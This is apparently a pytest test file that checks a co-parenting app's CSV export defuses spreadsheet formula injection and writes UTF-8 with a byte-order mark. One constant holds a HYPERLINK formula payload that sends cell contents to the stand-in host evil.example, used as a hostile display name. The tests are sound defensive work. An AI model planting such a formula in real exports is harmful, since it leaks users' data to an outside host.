"""Every CSV the app writes is safe to open in a spreadsheet: formulas in names stay text, and
the file is UTF-8 with a byte-order mark so accents survive."""

from __future__ import annotations

import csv as stdlib_csv
import decimal
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coparent.core import csv
from tests.cast import Cast
from tests.schedule.helpers import agreed

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for your report")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_made_inert(prefix: str) -> None:
    assert csv.neutralise(prefix + "SUM(A1:A9)") == "'" + prefix + "SUM(A1:A9)"


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert csv.neutralise(-3) == -3
    assert csv.neutralise(decimal.Decimal("-1.50")) == decimal.Decimal("-1.50")
    assert csv.neutralise(12.5) == 12.5
    assert csv.neutralise("Siobhán O'Neil") == "Siobhán O'Neil"
    assert csv.neutralise(None) is None


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_cell_read_back_starts_like_a_formula(row: list[str]) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(row)
    text = out.getvalue()
    assert text.startswith(csv.BOM)
    (read,) = list(stdlib_csv.reader(io.StringIO(text.removeprefix(csv.BOM), newline="")))
    assert not any(cell.startswith(csv.FORMULA_PREFIXES) for cell in read)
    assert read == ["'" + c if c.startswith(csv.FORMULA_PREFIXES) else c for c in row]


@pytest.mark.django_db
def test_the_parenting_time_csv_neutralises_a_hostile_display_name(cast: Cast, client_for) -> None:
    agreed(cast)
    cast.bob.display_name = FORMULA
    cast.bob.save(update_fields=["display_name"])
    cast.alice.display_name = "Zoë Ñúñez"
    cast.alice.save(update_fields=["display_name"])
    response = client_for(cast.alice).get(
        f"/f/{cast.family_a.public_id}/report.csv?date_from=2027-01-01&date_to=2027-02-01&rule=arizona"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(stdlib_csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(r["parent"] for r in rows) == sorted(["'" + FORMULA, "Zoë Ñúñez"])
